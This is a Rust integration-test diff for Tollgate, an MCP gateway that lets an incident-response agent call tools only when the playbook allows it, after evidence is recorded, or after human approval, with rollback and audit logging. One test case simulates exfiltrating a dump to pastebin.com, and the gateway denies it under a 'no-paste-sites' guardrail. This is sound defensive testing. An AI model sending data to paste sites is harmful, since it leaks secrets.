@@ -1,0 +1,418 @@
+//! The MCP gateway end to end: a real MCP client (rmcp, and the official
+//! Python SDK) talks to `tollgate serve` at /mcp, which runs the example
+//! tool server (`tollgate tools example`) as its stdio upstream. What the
+//! tools did is read back from the tool server's own state file.
+
+use crate::harness::*;
+use rmcp::model::{CallToolRequestParams, CallToolResult, ProgressNotificationParam};
+use rmcp::service::{NotificationContext, RunningService};
+use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
+use rmcp::transport::StreamableHttpClientTransport;
+use rmcp::{ClientHandler, RoleClient, ServiceExt};
+use serde_json::{json, Map, Value};
+use std::path::PathBuf;
+use std::sync::{Arc, Mutex};
+
+/// A gateway with one stdio upstream (the example tools, which need their
+/// token and echo back the credential they were called with).
+pub struct Gateway {
+    pub server: Server,
+    pub world: PathBuf,
+    pub token: String,
+    pub pid_file: PathBuf,
+    _tmp: tempfile::TempDir,
+}
+
+impl Gateway {
+    pub fn start() -> Self {
+        let tmp = tempfile::tempdir().unwrap();
+        let config = tmp.path().join("config");
+        let out = std::process::Command::new(bin())
+            .arg("init")
+            .arg(&config)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{out:?}");
+        let token = format!("ir-tools-secret-{}", now());
+        let token_file = config.join("ir-tools.token");
+        std::fs::write(&token_file, format!("{token}\n")).unwrap();
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&token_file, std::fs::Permissions::from_mode(0o600)).unwrap();
+        }
+        let world = tmp.path().join("world.json");
+        let pid_file = tmp.path().join("ir-tools.pid");
+        let mut yaml = std::fs::read_to_string(config.join("tollgate.yaml")).unwrap();
+        yaml.push_str(&format!(
+            "mcp:\n  call_timeout_seconds: 3\n  progress_every_seconds: 1\n  upstreams:\n    - name: ir-tools\n      stdio:\n        command: tollgate\n        args: [tools, example, --state, {world:?}, --token-file, {token_file:?}, --pid-file, {pid_file:?}, --echo-credential, --slow, forensics_image_host=30]\n        env:\n          IR_TOOLS_TOKEN: {{file: ir-tools.token}}\n",
+            world = world.display().to_string(),
+            token_file = token_file.display().to_string(),
+            pid_file = pid_file.display().to_string(),
+        ));
+        std::fs::write(config.join("tollgate.yaml"), yaml).unwrap();
+        let server = Server::start_with_config(&config, &tmp.path().join("data"));
+        Self {
+            server,
+            world,
+            token,
+            pid_file,
+            _tmp: tmp,
+        }
+    }
+
+    pub fn world(&self) -> Value {
+        serde_json::from_str(&std::fs::read_to_string(&self.world).unwrap()).unwrap()
+    }
+}
+
+/// Records progress notifications.
+#[derive(Clone, Default)]
+struct Progress(Arc<Mutex<Vec<String>>>);
+
+impl ClientHandler for Progress {
+    async fn on_progress(&self, p: ProgressNotificationParam, _: NotificationContext<RoleClient>) {
+        self.0.lock().unwrap().push(p.message.unwrap_or_default());
+    }
+}
+
+async fn connect(s: &Server, cred: &str) -> (RunningService<RoleClient, Progress>, Progress) {
+    let progress = Progress::default();
+    let config =
+        StreamableHttpClientTransportConfig::with_uri(s.url("/mcp")).auth_header(cred.to_string());
+    let client = progress
+        .clone()
+        .serve(StreamableHttpClientTransport::from_config(config))
+        .await
+        .unwrap();
+    (client, progress)
+}
+
+fn args(v: Value) -> Map<String, Value> {
+    v.as_object().unwrap().clone()
+}
+
+async fn call(c: &RunningService<RoleClient, Progress>, tool: &str, a: Value) -> CallToolResult {
+    c.call_tool(CallToolRequestParams::new(tool.to_string()).with_arguments(args(a)))
+        .await
+        .unwrap()
+}
+
+fn text(r: &CallToolResult) -> String {
+    r.content
+        .iter()
+        .filter_map(|c| c.as_text().map(|t| t.text.clone()))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Audit events of one kind (the `event` of each entry).
+fn events(s: &Server, kind: &str) -> Vec<Value> {
+    s.audit("")
+        .into_iter()
+        .filter(|e| e["event"]["kind"] == kind)
+        .map(|e| e["event"].clone())
+        .collect()
+}
+
+fn names(tools: &[rmcp::model::Tool]) -> Vec<String> {
+    let mut n: Vec<String> = tools.iter().map(|t| t.name.to_string()).collect();
+    n.sort();
+    n
+}
+
+#[test]
+fn an_rmcp_client_gets_every_tool_call_governed() {
+    let g = Gateway::start();
+    let s = &g.server;
+    let ivan = s.approver("ivan@acme.test", "identity");
+    let svid = s.enrol(IR);
+    let (task_id, cred) = s.open_task(&svid);
+    // A second task on the read-only `investigate` playbook.
+    let (status, v) = s.post(
+        "/v1/tasks",
+        Some(&svid),
+        &json!({"incident": {"id": "INC-4711", "class": "malware", "severity": "high"},
+                "environment": "prod", "playbook": "investigate", "intent": "look around"}),
+    );
+    assert_eq!(status, 201, "{v}");
+    let reader_cred = v["credential"].as_str().unwrap().to_string();
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let mut answers = Vec::new();
+
+    rt.block_on(async {
+        let (c, progress) = connect(s, &cred).await;
+
+        // tools/list: the catalog's tools this task's playbook allows, with
+        // the upstream's descriptions; logs_delete is no step of contain-malware.
+        let tools = c.list_all_tools().await.unwrap();
+        let listed = names(&tools);
+        for t in [
+            "edr_read_alerts",
+            "edr_isolate_host",
+            "iam_disable_account",
+            "http_post",
+            "tollgate_rollback",
+        ] {
+            assert!(
+                listed.contains(&t.to_string()),
+                "{t} missing from {listed:?}"
+            );
+        }
+        assert!(!listed.contains(&"logs_delete".to_string()), "{listed:?}");
+        let isolate = tools.iter().find(|t| t.name == "edr_isolate_host").unwrap();
+        assert!(isolate
+            .description
+            .as_deref()
+            .unwrap()
+            .contains("Cut a host off"));
+        let (reader, _) = connect(s, &reader_cred).await;
+        let read_only = names(&reader.list_all_tools().await.unwrap());
+        assert_eq!(
+            read_only,
+            [
+                "edr_read_alerts",
+                "forensics_image_host",
+                "siem_query",
+                "tollgate_rollback"
+            ],
+        );
+        // Calling a tool that is not offered is decided (and denied) all the same.
+        let r = call(&reader, "edr_isolate_host", json!({"host": "web-1"})).await;
+        assert_eq!(r.is_error, Some(true));
+        assert!(text(&r).contains("denied by Tollgate"), "{}", text(&r));
+        assert_eq!(g.world()["hosts"]["web-1"]["isolated"], false);
+        answers.push(serde_json::to_string(&r).unwrap());
+
+        // An allowed read reaches the tool, which got its credential from Tollgate.
+        let r = call(&c, "edr_read_alerts", json!({"host": "web-1"})).await;
+        assert_ne!(r.is_error, Some(true), "{}", text(&r));
+        assert!(text(&r).contains("beacon"), "{}", text(&r));
+        assert!(
+            text(&r).contains("[redacted]"),
+            "the echoed credential was not cut out: {}",
+            text(&r)
+        );
+        answers.push(serde_json::to_string(&r).unwrap());
+
+        // Denied: isolation before evidence. The tool is not called.
+        let r = call(
+            &c,
+            "edr_isolate_host",
+            json!({"host": "web-2", "reason": "beacon"}),
+        )
+        .await;
+        assert_eq!(r.is_error, Some(true));
+        let t = text(&r);
+        assert!(
+            t.contains("denied by Tollgate (request req_") && t.contains("evidence"),
+            "{t}"
+        );
+        assert_eq!(r.structured_content.as_ref().unwrap()["decision"], "deny");
+        assert_eq!(g.world()["hosts"]["web-2"]["isolated"], false);
+        answers.push(serde_json::to_string(&r).unwrap());
+
+        // With evidence recorded, the same call is allowed and the host is isolated.
+        let content = "pid 4242 beacon.exe -> 203.0.113.7:443";
+        let (st, ev) = s.post(
+            &format!("/v1/tasks/{task_id}/evidence"),
+            Some(&cred),
+            &json!({"resource": host("web-2"), "kind": "process-list",
+                    "sha256": tollgate_core::sha256_hex(content.as_bytes()), "content": content}),
+        );
+        assert_eq!(st, 201, "{ev}");
+        let r = call(
+            &c,
+            "edr_isolate_host",
+            json!({"host": "web-2", "reason": "beacon"}),
+        )
+        .await;
+        assert_ne!(r.is_error, Some(true), "{}", text(&r));
+        assert_eq!(g.world()["hosts"]["web-2"]["isolated"], true);
+        let isolate_request = r.meta.as_ref().unwrap().0["tollgate/request_id"]
+            .as_str()
+            .unwrap()
+            .to_string();
+        answers.push(serde_json::to_string(&r).unwrap());
+
+        // Denied by a guardrail on an attribute the gateway derived from the
+        // URL argument (the agent sends no resource attributes).
+        let r = call(
+            &c,
+            "http_post",
+            json!({"url": "https://PasteBin.com/raw", "body": "the dump"}),
+        )
+        .await;
+        assert_eq!(r.is_error, Some(true));
+        assert!(text(&r).contains("no-paste-sites"), "{}", text(&r));
+        assert_eq!(g.world()["posts"], json!([]));
+        answers.push(serde_json::to_string(&r).unwrap());
+
+        // Approval: the call is held open, with progress notifications, until
+        // a human approves; only then does it reach the tool.
+        let held = {
+            let c = c.peer().clone();
+            tokio::spawn(async move {
+                c.call_tool(
+                    CallToolRequestParams::new("iam_disable_account").with_arguments(args(
+                        json!({"account": "jdoe", "reason": "jdoe's session launched the beacon"}),
+                    )),
+                )
+                .await
+            })
+        };
+        let approval_id = loop {
+            let (_, v) = s.get("/v1/approvals?status=pending", Some(&ivan));
+            if let Some(id) = v["approvals"][0]["id"].as_str() {
+                break id.to_string();
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        };
+        tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
+        assert_eq!(
+            g.world()["accounts"]["jdoe"]["enabled"],
+            true,
+            "acted before approval"
+        );
+        assert!(!held.is_finished());
+        let (st, v) = s.post(
+            &format!("/v1/approvals/{approval_id}/decision"),
+            Some(&ivan),
+            &json!({"approve": true, "reason": "confirmed with the account owner"}),
+        );
+        assert_eq!(st, 200, "{v}");
+        let r = held.await.unwrap().unwrap();
+        assert_ne!(r.is_error, Some(true), "{}", text(&r));
+        assert_eq!(g.world()["accounts"]["jdoe"]["enabled"], false);
+        let notes = progress.0.lock().unwrap().clone();
+        assert!(
+            notes.iter().any(|n| n.contains(&format!(
+                "held by Tollgate for human approval {approval_id}"
+            ))),
+            "{notes:?}"
+        );
+        answers.push(serde_json::to_string(&r).unwrap());
+
+        // Rollback through the gateway: the isolation's compensation runs,
+        // authorised and audited like any call.
+        let r = call(
+            &c,
+            "tollgate_rollback",
+            json!({"request_id": isolate_request}),
+        )
+        .await;
+        assert_ne!(r.is_error, Some(true), "{}", text(&r));
+        assert_eq!(g.world()["hosts"]["web-2"]["isolated"], false);
+        let again = call(
+            &c,
+            "tollgate_rollback",
+            json!({"request_id": isolate_request}),
+        )
+        .await;
+        assert_eq!(again.is_error, Some(true), "undone twice: {}", text(&again));
+        answers.push(serde_json::to_string(&r).unwrap());
+
+        // A slow upstream becomes a clear tool error; the gateway keeps serving.
+        let r = call(&c, "forensics_image_host", json!({"host": "web-1"})).await;
+        assert_eq!(r.is_error, Some(true));
+        assert!(
+            text(&r).contains("did not answer within 3 s"),
+            "{}",
+            text(&r)
+        );
+
+        // The upstream crashes: the next call restarts it.
+        let pid = std::fs::read_to_string(&g.pid_file).unwrap();
+        let killed = std::process::Command::new("kill")
+            .arg("-9")
+            .arg(pid.trim())
+            .status()
+            .unwrap();
+        assert!(killed.success());
+        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+        let r = call(&c, "edr_read_alerts", json!({"host": "web-1"})).await;
+        assert_ne!(r.is_error, Some(true), "{}", text(&r));
+        assert_ne!(
+            std::fs::read_to_string(&g.pid_file).unwrap(),
+            pid,
+            "not restarted"
+        );
+        answers.push(serde_json::to_string(&r).unwrap());
+
+        // Revoked: the next request is refused before any decision.
+        s.admin_post(
+            "/v1/revocations",
+            &json!({"task_id": task_id, "reason": "done"}),
+        );
+        let refused = c
+            .call_tool(
+                CallToolRequestParams::new("edr_read_alerts")
+                    .with_arguments(args(json!({"host": "web-1"}))),
+            )
+            .await;
+        assert!(refused.is_err(), "{refused:?}");
+        let (st, _) = s.post(
+            "/mcp",
+            Some(&cred),
+            &json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"}),
+        );
+        assert_eq!(st, 401);
+    });
+
+    for a in &answers {
+        assert!(!a.contains(&g.token), "the upstream credential leaked: {a}");
+    }
+
+    // The audit log: each forwarded call is an executed action with its exact
+    // call (secrets hashed) and result digest; refusals and restarts are there too.
+    let results = events(s, "action.result");
+    let isolate = results
+        .iter()
+        .find(|e| e["detail"]["tool"] == "edr_isolate_host")
+        .unwrap();
+    assert_eq!(isolate["outcome"], "succeeded");
+    assert_eq!(isolate["detail"]["via"], "mcp");
+    let command: Value =
+        serde_json::from_str(isolate["detail"]["command"].as_str().unwrap()).unwrap();
+    assert_eq!(
+        command["mcp"]["arguments"],
+        json!({"host": "web-2", "reason": "beacon"})
+    );
+    assert_eq!(
+        isolate["detail"]["output_digest"].as_str().unwrap().len(),
+        64
+    );
+    assert_eq!(
+        isolate["detail"]["compensation"]["action"],
+        "edr.release_host"
+    );
+    let release = results
+        .iter()
+        .find(|e| e["detail"]["tool"] == "edr_release_host")
+        .unwrap();
+    assert_eq!(release["detail"]["compensates"], isolate["request_id"]);
+    let slow = results
+        .iter()
+        .find(|e| e["detail"]["tool"] == "forensics_image_host")
+        .unwrap();
+    assert_eq!(slow["outcome"], "failed");
+    let post = events(s, "decision")
+        .into_iter()
+        .find(|e| e["detail"]["action"] == "http.post")
+        .unwrap();
+    assert_eq!(post["outcome"], "deny");
+    assert_eq!(
+        post["detail"]["resource_attributes"]["domain"],
+        "pastebin.com"
+    );
+    assert_ne!(
+        post["detail"]["parameters"]["body"], "the dump",
+        "secret parameter logged raw"
+    );
+    assert!(!events(s, "mcp.upstream_restarted").is_empty());
+    let all = serde_json::to_string(&s.audit("")).unwrap();
+    assert!(
+        !all.contains(&g.token),
+        "the upstream credential reached the audit log"
+    );
+}
